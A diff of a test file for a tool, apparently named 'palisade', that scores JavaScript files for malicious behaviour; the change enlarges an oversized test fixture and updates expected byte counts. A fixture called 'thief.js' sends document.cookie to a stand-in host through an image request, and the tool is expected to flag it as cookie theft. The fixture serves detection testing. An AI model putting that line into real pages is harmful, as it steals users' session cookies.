@@ -20,7 +20,7 @@ describe('palisade script score', () => {
   const thief = write('thief.js', `new Image().src = '//x.test/?' + document.cookie;`);
   const clean = write('clean.js', 'document.title = "hello";');
   const page = write('page.html', '<html></html>');
-  const large = write('large.js', 'a();'.repeat(100_000));
+  const large = write('large.js', 'a();'.repeat(600_000));
 
   it('prints six scores for each file and the reasons, and exits with 1', async () => {
     const { code, stdout } = await palisade(thief, clean);
@@ -60,7 +60,7 @@ describe('palisade script score', () => {
     assert.match(stdout, /\n {4}1:34 cookie, wholeCookie: document\.cookie\n/);
     assert.match(stdout, /\n {2}malware\/all-cookies-sent-unanswered, 100 points: 1:1\n/);
     assert.match(stdout, /page\.html\nnot-javascript: Unexpected token \(1:0\)\n/);
-    assert.match(stdout, /large\.js\ntoo-large: 400,000 bytes/);
+    assert.match(stdout, /large\.js\ntoo-large: 2,400,000 bytes/);
     assert.equal(code, 1);
     const { stderr } = await palisade('--dump', '--json', thief);
     assert.match(stderr, /--dump.*cannot be used with.*--json/);
@@ -70,7 +70,7 @@ describe('palisade script score', () => {
     const { code, stdout } = await palisade(page, large);
     assert.match(stdout, /page\.html +- +- +- +- +- +-\n/);
     assert.match(stdout, /page\.html: not-javascript: Unexpected token \(1:0\)/);
-    assert.match(stdout, /large\.js: too-large: 400,000 bytes/);
+    assert.match(stdout, /large\.js: too-large: 2,400,000 bytes/);
     assert.equal(code, 2);
     const printed = JSON.parse((await palisade('--json', large)).stdout);
     assert.equal(printed.js_integrity_score, null);
